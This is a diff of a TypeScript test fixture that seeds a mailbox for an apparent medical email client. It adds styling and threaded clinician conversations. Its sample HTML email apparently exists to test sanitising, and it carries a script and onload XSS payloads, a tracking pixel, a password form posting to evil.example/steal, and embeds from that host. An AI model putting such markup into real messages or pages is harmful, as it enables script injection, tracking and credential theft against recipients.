@@ -57,11 +57,11 @@ function emls(remoteBase: string): Eml[] {
         subject: 'Lettre d’information du laboratoire — nouveaux horaires',
         text: 'Nouveaux horaires du laboratoire : du lundi au samedi, 7 h – 19 h. https://biolab.example.fr/horaires',
         html:
-          `<html><head><style>body{background:url(${remoteBase}/bg.png)}</style><link rel="stylesheet" href="${remoteBase}/x.css">` +
+          `<html><head><style>body{background:url(${remoteBase}/bg.png)} p.horaires{font-size:18px}</style><link rel="stylesheet" href="${remoteBase}/x.css">` +
           `<script>window.parent.postMessage('pwned','*')</script></head><body onload="alert(1)">` +
-          `<h1>Laboratoire BIOLAB</h1><p><img id="logo" src="${remoteBase}/logo.png" alt="Logo du laboratoire" width="120">` +
+          `<h1 style="color: rgb(0, 102, 153); border-bottom: 2px solid #069">Laboratoire BIOLAB</h1><p><img id="logo" src="${remoteBase}/logo.png" alt="Logo du laboratoire" width="120">` +
           `<img id="pixel" src="${remoteBase}/pixel.gif?u=alice" width="1" height="1"></p>` +
-          `<p>Nos <b>nouveaux horaires</b> : du lundi au samedi, 7 h – 19 h.</p>` +
+          `<p class="horaires">Nos <b>nouveaux horaires</b> : du lundi au samedi, 7 h – 19 h.</p>` +
           `<table background="${remoteBase}/table-bg.png"><tr><td bgcolor="#e6f0fa">Prélèvements sans rendez-vous</td></tr></table>` +
           `<form action="https://evil.example/steal"><input name="pwd"><button>Envoyer</button></form>` +
           `<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x.swf"></object>` +
@@ -150,6 +150,30 @@ export async function seedStore(w: StoreWriter, dir: string, remoteBase: string)
     }));
     w.storeBody(id!, { text: p.text ?? null, html: p.html || null, rawSize: raw.length }, atts);
   }
+  // Conversations for the threaded view, in Archives (no other test counts that folder): a 5-message
+  // follow-up whose reply from Alice is kept in Sent, a 2-message one (the reply only in Sent) and a lone message.
+  const claire = { name: 'Dr Claire NOËL', address: 'claire.noel@chirurgie.mssante.fr' };
+  const julie = { name: 'Julie FAURE (IDE)', address: 'julie.faure@soins.mssante.fr' };
+  const hugo = { name: 'Dr Hugo BLANC', address: 'hugo.blanc@dermato.mssante.fr' };
+  const me = { name: 'Dr Alice MARTIN', address: ALICE };
+  const conv = (uid: number, id: string, parents: string[], from: Address, hoursAgo: number, subject: string, text: string, flags: string[]): MessageInput => ({
+    uid, messageId: `<${id}@test.mssante.fr>`, inReplyTo: parents.length ? `<${parents.at(-1)}@test.mssante.fr>` : null,
+    references: parents.map((p) => `<${p}@test.mssante.fr>`), subject, from, to: [from === me ? claire : me],
+    date: now - hoursAgo * 3_600_000, flags, body: { text },
+  });
+  const suivi = 'Suivi post-opératoire — M. LEFEBVRE';
+  w.upsertMessages(f.archive, 1, [
+    conv(1, 'lef-1', [], claire, 24 * 9, suivi, 'Sortie de M. LEFEBVRE ce jour, pansement à refaire à J+2.', ['\\Seen']),
+    conv(2, 'lef-3', ['lef-1', 'lef-2'], claire, 24 * 6, `Re: ${suivi}`, 'Merci. Contrôle en consultation à J+10.', ['\\Seen']),
+    conv(3, 'lef-4', ['lef-1', 'lef-2', 'lef-3'], julie, 24 * 3, `Re: ${suivi}`, 'Pansement refait ce matin, cicatrice propre.', []),
+    conv(4, 'lef-5', ['lef-1', 'lef-2', 'lef-3', 'lef-4'], claire, 2, `Re: ${suivi}`, 'Parfait, ablation des fils prévue lundi.', ['\\Flagged']),
+    conv(5, 'gar-1', [], hugo, 24 * 2, 'Demande d’avis dermatologique — Mme GARNIER', 'Photo de la lésion à venir.', ['\\Seen']),
+    conv(6, 'pet-1', [], { name: 'Laboratoire BIOLAB', address: 'resultats@biolab.mssante.fr' }, 24 * 5, 'HbA1c — M. PETIT', 'HbA1c à 6,8 %.', ['\\Seen']),
+  ]);
+  w.upsertMessages(f.sent, 1, [
+    conv(202, 'lef-2', ['lef-1'], me, 24 * 8, `Re: ${suivi}`, 'Bien reçu, je passe le voir à domicile.', ['\\Seen']),
+    conv(203, 'gar-2', ['gar-1'], me, 24, 'Re: Demande d’avis dermatologique — Mme GARNIER', 'Je la vois mardi.', ['\\Seen']),
+  ]);
   // Thousands of rows for the virtualized list (headers only, like a first sync before bodies).
   const bulk: MessageInput[] = [];
   for (let i = 1; i <= BULK; i++) {
